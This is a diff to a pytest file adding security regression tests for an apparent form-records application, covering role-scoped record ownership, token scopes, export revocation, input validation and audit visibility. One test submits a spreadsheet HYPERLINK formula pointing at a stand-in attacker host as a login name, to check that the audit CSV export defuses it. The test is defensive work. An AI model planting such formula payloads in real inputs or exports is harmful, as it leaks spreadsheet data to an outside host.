@@ -6,7 +6,7 @@ import pytest
 from formwarden import db
 from formwarden.access.actor import Actor
 from formwarden.auth.users import actor_for
-from formwarden.errors import Forbidden, NotFound
+from formwarden.errors import Forbidden, Invalid, NotFound
 from formwarden.models import AuditEvent
 from formwarden.records import history, service
 from formwarden.records.query import ListQuery
@@ -98,12 +98,18 @@ def test_two_role_user_cannot_write_through_another_roles_scope(make_user):
 
 def test_team_writer_cannot_plant_or_give_away_records(make_user):
     boss = actor_for(make_user(roles=("manager",), teams=("East sales",)))
-    with pytest.raises(Forbidden) as exc:
+    with pytest.raises(Invalid) as exc:
         service.create_record(boss, "customer", {**VALID_CUSTOMER, "owner": "sales11"})
-    assert exc.value.code == "owner_out_of_scope"
+    with pytest.raises(Invalid) as unknown:
+        service.create_record(boss, "customer", {**VALID_CUSTOMER, "owner": "nobody_such"})
+    # the same answer as for a name that does not exist: no probing for usernames
+    assert (exc.value.code, exc.value.message) == (unknown.value.code, unknown.value.message) == (
+        "unknown_user", "no active user you may give records to by that name")
     ok = service.create_record(boss, "customer", {**VALID_CUSTOMER, "owner": "sales01"})
-    with pytest.raises(Forbidden):
+    with pytest.raises(Invalid):
         service.update_record(boss, "customer", ok.id, {"owner": "sales11"}, expected_version=1)
+    with pytest.raises(Invalid):  # nor blanked: a record always has an owner
+        service.update_record(boss, "customer", ok.id, {"owner": None}, expected_version=1)
     assert service.update_record(boss, "customer", ok.id, {"owner": "sales02"}, expected_version=1).version == 2
     with pytest.raises(NotFound):  # a South team record stays out of reach
         service.get_record(boss, "customer", _customer("sales12").id)
@@ -114,7 +120,7 @@ def test_team_writer_cannot_give_away_by_bulk_or_import(make_user):
 
     boss = actor_for(make_user(roles=("manager",), teams=("East sales",)))
     rec = service.create_record(boss, "customer", {**VALID_CUSTOMER, "owner": "sales01"})
-    with pytest.raises(Forbidden):
+    with pytest.raises(Invalid):
         bulk.bulk_update(boss, "customer", [rec.id], {"owner": "sales15"})
     rows = bulk.read_csv(bulk.versions.current("customer")[1], "name,status,owner\n甲,lead,sales01\n乙,lead,sales16\n")
     with pytest.raises(Exception) as exc:
@@ -167,7 +173,10 @@ def test_a_token_narrows_platform_permissions(app, clean_db):
     audit = {"Authorization": f"Bearer {_token('admin', 'audit')}"}
     assert c.get("/api/v1/audit/events", headers=audit).status_code == 200
     assert c.get("/api/v1/forms/customer/records", headers=audit).status_code == 403  # no record scope
-    purge = {"Authorization": f"Bearer {_token('admin', 'purge')}"}
+    for scopes in ("purge", "contract:delete,purge", "customer:delete"):  # both, and for this form
+        other = {"Authorization": f"Bearer {_token('admin', scopes)}"}
+        assert c.delete(f"/api/v1/forms/customer/records/{rec.id}/purge", headers=other).status_code in (403, 404)
+    purge = {"Authorization": f"Bearer {_token('admin', 'customer:read,customer:delete,purge')}"}
     assert c.delete(f"/api/v1/forms/customer/records/{rec.id}/purge", headers=purge).status_code in (200, 204)
 
 
@@ -220,8 +229,12 @@ def test_export_file_is_private_and_each_download_is_audited(login_as, clean_db)
     path.parent.mkdir(exist_ok=True)
     export_csv(actor_of("manager"), "customer", ListQuery(), path)
     assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
+    from formwarden.access.gate import access_fingerprint
+
+    made_under = access_fingerprint(actor_of("manager"), service.versions.current("customer")[1])
     run = JobRun.create(job_id="dl1", kind="export", requested_by=actor_of("manager").user_id,
-                        params='{"form": "customer"}', status="done", result_path=str(path))
+                        params=f'{{"form": "customer", "made_under": "{made_under}"}}', status="done",
+                        result_path=str(path))
     assert c.get("/jobs/dl1/download").status_code == 200
     assert AuditEvent.select().where(AuditEvent.action == "export_download").count() == 1
     from formwarden.auth.users import change_role  # the right goes: the file goes with it
@@ -454,3 +467,79 @@ def test_a_field_no_longer_restricted_never_shows_ciphertext_and_is_opened(clean
     form, formdef, names = next(p for p in pending_forms() if p[0].key == "customer")
     reseal_batch(Actor.system("tests"), form, formdef, names, 0)
     assert "$enc" in _json.dumps(Record.get_by_id(rec.id).data)  # restricted again: sealed again
+
+
+def test_an_export_is_not_handed_out_once_one_of_two_roles_is_revoked(login_as, make_user, clean_db, tmp_path):
+    """manager (East team) + finance (all records): the file holds every team's amounts; after
+    finance is revoked the same person may no longer have it."""
+    from formwarden.access.gate import access_fingerprint
+    from formwarden.auth.users import change_role
+    from formwarden.models import JobRun
+    from formwarden.records.export import export_csv
+
+    user = make_user(roles=("manager", "finance"), teams=("East sales",))
+    _customer("sales15")
+    path = clean_db.instance / "exports" / "two.csv"
+    path.parent.mkdir(exist_ok=True)
+    who = actor_for(user)
+    assert export_csv(who, "customer", ListQuery(), path) == 1
+    JobRun.create(job_id="dl2", kind="export", requested_by=user.id, status="done", result_path=str(path),
+                  params=f'{{"form": "customer", "made_under": "{access_fingerprint(who, service.versions.current("customer")[1])}"}}')
+    c = login_as(user.username)
+    assert c.get("/jobs/dl2/download").status_code == 200
+    change_role(actor_of("admin"), user.username, "finance", grant=False)
+    r = c.get("/jobs/dl2/download")
+    assert r.status_code == 403 and "测试公司" not in r.get_data(as_text=True)
+
+
+
+# --- found by the outside attack of this change ----------------------------------------------
+
+def test_audit_csv_defuses_every_text_cell(login_as, anon):
+    anon.refresh_csrf()
+    anon.post("/login", data={"username": '=HYPERLINK("http://evil.example/?"&C2,"x")', "password": "p",
+                              "csrf_token": anon.csrf})
+    text = login_as("admin").get("/audit/export.csv?action=login_failed").get_data(as_text=True)
+    assert "HYPERLINK" in text and ',"=HYPERLINK' not in text and "'=HYPERLINK" in text
+
+
+@pytest.mark.parametrize("value", ["NaN", "nan", "inf", "-Infinity", "1_000", "１２", "1e999"])
+def test_form_number_input_is_checked_before_it_reaches_storage(login_as, value):
+    c = login_as("admin")
+    data = {"_present": ["name", "status", "contract_amount"], "name": "x", "status": "negotiating",
+            "contract_amount": value, "csrf_token": c.csrf}
+    r = c.post("/f/customer/new", data=data)
+    assert r.status_code == 422
+
+
+def test_bulk_summary_reason_is_shown_only_to_who_sees_the_fields(login_as, clean_db):
+    from formwarden.records import bulk
+
+    rec = _customer("sales01")
+    bulk.bulk_update(actor_of("admin"), "customer", [rec.id], {"contract_amount": 1.5}, reason="REASON-BULK")
+    bulk.bulk_delete(actor_of("admin"), "customer", [rec.id], reason="REASON-DEL")
+    body = login_as("auditor").get("/api/v1/audit/events?per_page=200").get_data(as_text=True)
+    assert "REASON-BULK" not in body and "REASON-DEL" not in body
+    admin = login_as("admin").get("/api/v1/audit/events?per_page=200").get_data(as_text=True)
+    assert "REASON-BULK" in admin and "REASON-DEL" in admin
+
+
+def test_a_stale_revert_is_409_whatever_the_hidden_fields(clean_db):
+    from formwarden.errors import Conflict
+
+    admin = actor_of("admin")
+    rec = _customer("sales01", id_number="11010519491231002X")
+    service.update_record(admin, "customer", rec.id, {"id_number": "110101199003074477"}, expected_version=1)
+    with pytest.raises(Conflict):
+        history.revert_record(actor_of("sales01"), "customer", rec.id, 1, expected_version=999)
+
+
+def test_audit_search_date_out_of_range_names_the_field(login_as):
+    r = login_as("admin").get("/api/v1/audit/events?until=9999-12-31")
+    assert r.status_code == 422 and r.json["error"]["field"] == "until"
+
+
+def test_forms_offer_only_owners_inside_the_writers_scope(login_as, make_user):
+    east = make_user(roles=("manager",), teams=("East sales",))
+    page = login_as(east.username).get("/f/customer/new").get_data(as_text=True)
+    assert ">sales01<" in page and ">sales11<" not in page and ">auditor<" not in page
